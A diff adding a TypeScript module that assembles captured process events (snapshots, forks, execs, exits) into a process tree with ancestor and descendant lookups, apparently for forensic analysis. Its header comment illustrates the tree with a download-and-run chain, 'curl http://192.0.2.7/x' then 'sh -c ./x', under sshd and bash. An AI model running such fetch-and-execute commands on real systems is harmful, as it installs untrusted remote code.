@@ -1,0 +1,118 @@
+// The processes of a capture as a tree, from what happened to them: forks, programs, ends.
+//
+//   sshd ── bash ──┬─ curl http://192.0.2.7/x       one node a process; what it ran one after the other are its programs
+//                  └─ sh -c ./x ── ./x
+
+import type { ProcessView } from '../../journal/process-view.ts';
+
+export interface Program {
+  /** ns since the epoch. */
+  readonly time: bigint;
+  readonly image: bigint;
+  readonly name: string;
+  readonly commandLine: string;
+  readonly executable: string;
+  readonly user: string;
+}
+
+export interface TreeProcess {
+  readonly pid: number;
+  /** ns since the epoch; undefined: it ran before the capture begins. */
+  readonly began: bigint | undefined;
+  readonly programs: Program[];
+  /** When, and its wait status. */
+  ended: { readonly time: bigint; readonly status: number } | undefined;
+  parent: TreeProcess | undefined;
+  readonly children: TreeProcess[];
+}
+
+export class ProcessTree {
+  readonly #byImage = new Map<bigint, TreeProcess>();
+
+  /** The process that has or had the image. */
+  of(image: bigint): TreeProcess | undefined {
+    return this.#byImage.get(image);
+  }
+
+  get processes(): readonly TreeProcess[] {
+    return [...new Set(this.#byImage.values())];
+  }
+
+  /** Takes in what happened to a process; returns the process, if it is one. */
+  add(view: ProcessView): TreeProcess | undefined {
+    if (view.isOfThread) return undefined;
+    switch (view.change) {
+      case 'snapshot':
+      case 'fork':
+        return this.#begin(view);
+      case 'exec':
+      case 'change':
+        return this.#goOn(view);
+      case 'exit': {
+        const process = this.#byImage.get(view.id);
+        if (process) process.ended ??= { time: view.time, status: view.waitStatus };
+        return process;
+      }
+    }
+  }
+
+  #begin(view: ProcessView): TreeProcess {
+    const parent = this.#byImage.get(view.parent);
+    const process: TreeProcess = {
+      pid: view.pid,
+      began: view.change === 'fork' ? view.time : undefined,
+      programs: [programOf(view)],
+      ended: undefined,
+      parent,
+      children: [],
+    };
+    parent?.children.push(process);
+    this.#byImage.set(view.id, process);
+    return process;
+  }
+
+  /** Another image of a process that is known. */
+  #goOn(view: ProcessView): TreeProcess {
+    const process = this.#byImage.get(view.previous);
+    if (!process) return this.#begin(view);
+    this.#byImage.set(view.id, process);
+    if (view.change === 'exec') process.programs.push(programOf(view));
+    return process;
+  }
+}
+
+function programOf(view: ProcessView): Program {
+  return {
+    time: view.time,
+    image: view.id,
+    name: view.text('comm') ?? '',
+    commandLine: view.text('cmdline') ?? '',
+    executable: view.text('executable') ?? '',
+    user: view.text('user_name') ?? '',
+  };
+}
+
+/** The process and those it descends from, the process first. Ends also if parents go round in a circle. */
+export function branchOf(process: TreeProcess): TreeProcess[] {
+  const branch: TreeProcess[] = [];
+  const seen = new Set<TreeProcess>();
+  for (let next: TreeProcess | undefined = process; next && !seen.has(next); next = next.parent) {
+    seen.add(next);
+    branch.push(next);
+  }
+  return branch;
+}
+
+/** The process and all that descend from it. */
+export function familyOf(process: TreeProcess): TreeProcess[] {
+  const family = [process];
+  const seen = new Set(family);
+  for (const one of family) {
+    for (const child of one.children) {
+      if (seen.has(child)) continue;
+      seen.add(child);
+      family.push(child);
+    }
+  }
+  return family;
+}
